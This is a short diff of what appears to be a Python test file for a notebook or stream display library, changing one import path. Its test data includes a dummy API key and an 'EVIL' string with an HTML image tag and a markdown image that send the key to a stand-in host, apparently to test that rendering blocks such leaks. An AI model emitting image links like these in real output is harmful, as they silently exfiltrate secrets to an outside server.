@@ -33,7 +33,7 @@ from streamlib import (
 )
 from streamlib_parsers.accumulate import Choice
 from streamlib_parsers.events import FinishedChoice, Window
-from tests.parsers.test_notebook_text import OURS, Tags, unsafe
+from tests.streamlib.display.test_notebook_text import OURS, Tags, unsafe
 
 KEY: Final = "sk-ant-0123456789abcdefghij"
 EVIL: Final = f"<img src=http://evil.example/?{KEY}> ![x](http://evil.example/{KEY}) {KEY}"
